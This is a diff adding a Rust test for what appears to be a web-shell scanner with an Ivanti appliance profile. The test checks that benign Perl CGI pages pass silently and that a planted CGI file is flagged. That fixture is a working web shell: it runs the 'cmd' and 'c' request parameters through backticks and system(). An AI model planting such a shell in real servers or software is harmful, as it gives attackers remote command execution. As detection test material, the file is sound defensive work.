@@ -89,3 +89,52 @@ fn a_plain_tree_gets_no_profile() {
     assert!(f.is_empty());
     assert!(!err.contains("appliance profile"), "{err}");
 }
+
+/// The web-shell scan over an appliance's served folder: stock-looking Perl
+/// CGI pages (request parameters escaped into HTML, a redirect, a file read
+/// from a fixed path) stay silent, and a CGI passing a parameter to a shell
+/// is found by both the scan and the profile.
+#[test]
+fn benign_appliance_cgi_stays_silent_and_a_cgi_shell_is_found() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path();
+    let served = "home/webserver/htdocs/dana-na";
+    write(
+        root,
+        "home/perl/DSUpgrade.pm",
+        b"package DSUpgrade;\nuse strict;\nsub version { return '22.7'; }\n1;\n",
+    );
+    write(
+        root,
+        &format!("{served}/auth/welcome.cgi"),
+        b"#!/usr/bin/perl\nuse strict;\nuse CGI;\nmy $q = CGI->new;\nmy $realm = $q->param('realm') // '';\n$realm =~ s/[^A-Za-z0-9_-]//g;\nprint $q->header('text/html');\nprint \"<html><body>Welcome to \", CGI::escapeHTML($realm), \"</body></html>\\n\";\n",
+    );
+    write(
+        root,
+        &format!("{served}/auth/logout.cgi"),
+        b"#!/usr/bin/perl\nuse strict;\nuse CGI;\nmy $q = CGI->new;\nprint $q->redirect(-uri => '/dana-na/auth/url_default/welcome.cgi');\n",
+    );
+    write(
+        root,
+        &format!("{served}/meeting/meeting_testjs.cgi"),
+        b"#!/usr/bin/perl\nuse strict;\nopen(my $fh, '<', '/home/webserver/htdocs/dana-na/meeting/test.js') or exit 1;\nprint \"Content-Type: application/javascript\\n\\n\";\nprint while <$fh>;\nclose $fh;\n",
+    );
+    let (f, code, err) = scan(root, &[]);
+    assert_eq!(code, 0, "{err}\n{f:#?}");
+    assert!(err.contains("appliance profile ivanti"), "{err}");
+    assert!(f.is_empty(), "{f:#?}");
+
+    write(
+        root,
+        &format!("{served}/auth/lastauthserverused.cgi"),
+        b"#!/usr/bin/perl\nuse CGI;\nmy $q = CGI->new;\nprint \"Content-Type: text/plain\\n\\n\";\nprint `$q->param('cmd')`;\nsystem($q->param('c'));\n",
+    );
+    let (f, code, err) = scan(root, &[]);
+    assert_eq!(code, 1, "{err}");
+    let rules: Vec<&str> = f.iter().map(|x| x["rule"].as_str().unwrap()).collect();
+    assert!(rules.contains(&"ferret.webshell"), "{rules:?}");
+    assert!(
+        rules.contains(&"appliance.ivanti.unshipped_script"),
+        "{rules:?}"
+    );
+}
